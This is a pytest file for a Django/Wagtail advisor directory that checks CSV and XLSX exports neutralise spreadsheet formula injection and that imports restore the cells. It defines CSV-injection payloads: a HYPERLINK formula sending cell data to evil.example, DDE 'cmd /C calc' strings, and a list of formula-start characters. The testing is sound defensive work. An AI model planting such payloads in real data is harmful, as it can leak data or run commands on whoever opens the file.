"""Audit finding 1: no CSV the site writes carries a cell a spreadsheet would run as a formula —
the public export, the admin's own list exports and Wagtail's reports — and the import reads the
neutralised cells back unchanged (core/spreadsheets.py)."""

import csv
import io

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from wagtail.models import Page

from core.spreadsheets import restore_cell, safe_cell
from directory import verification
from directory.models import Advisor, AdvisorStatus
from directory.public import record
from tests.factories import AdvisorFactory, published_advisor

pytestmark = pytest.mark.django_db
PAYLOADS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Klick")',
    "organisation": "+cmd|' /C calc'!A0",
    "short_profile": "-2+3+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "\t=1+1",
    "fee_model": "\r=1+1",
}


# What spreadsheet programs run (OWASP "CSV Injection", plus the full-width forms Excel also reads),
# kept apart from core.spreadsheets so that a start missing there makes this test fail.
SPREADSHEET_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def dangerous(cell):
    return cell.startswith(SPREADSHEET_FORMULA_STARTS)


def csv_cells(response, delimiter):
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "a", " ", "＝"]), max_size=8) | st.text())
def test_safe_cell_never_starts_a_formula_and_restore_undoes_it(text):
    assert not dangerous(safe_cell(text))
    assert restore_cell(safe_cell(text)) == text


def test_public_csv_export_neutralises_formulas_and_imports_back_unchanged(client, tmp_path):
    advisor = published_advisor(postcode="50667", **PAYLOADS)
    before = record(advisor)
    response = client.get("/berater/export.csv")
    cells = csv_cells(response, ";")
    assert not [cell for cell in cells if dangerous(cell)]
    assert f"'{PAYLOADS['organisation']}" in cells  # shown as text, nothing lost

    path = tmp_path / "export.csv"
    path.write_bytes(response.content)
    Advisor.objects.all().delete()
    call_command("import_advisors", str(path), "--source", "Export der OM", "--execute", stdout=io.StringIO())
    imported = record(Advisor.objects.get())
    # the reader strips surrounding blanks, so TAB/CR in front are gone as in every other cell
    for key in ("name", "organisation", "short_profile", "description", "fee_model"):
        assert imported[key] == before[key].strip()


@pytest.mark.parametrize(
    "url",
    ["/admin/snippets/directory/advisor/", "/admin/directory/verificationevent/", "/admin/reports/locked/"],
)
def test_every_admin_csv_export_neutralises_formulas(admin_client, admin_user, url):
    advisor = AdvisorFactory(status=AdvisorStatus.SUBMITTED, **PAYLOADS)
    verification.transition(advisor, AdvisorStatus.IN_REVIEW, reason='=HYPERLINK("https://evil.example")')
    page = Page.objects.get(depth=1).add_child(instance=Page(title="@SUM(1+1)", slug="formel"))
    page.locked, page.locked_by = True, admin_user
    page.save()

    cells = csv_cells(admin_client.get(url, {"export": "csv"}), ",")

    assert len(cells) > 5 and not [cell for cell in cells if dangerous(cell)]
    assert any(cell.startswith("'=") or cell.startswith("'@") or cell.startswith("'+") for cell in cells)


def test_admin_xlsx_export_keeps_formulas_as_text(admin_client):
    AdvisorFactory(status=AdvisorStatus.SUBMITTED, **PAYLOADS)
    response = admin_client.get("/admin/snippets/directory/advisor/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=False).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert PAYLOADS["organisation"] in [cell.value for cell in cells]
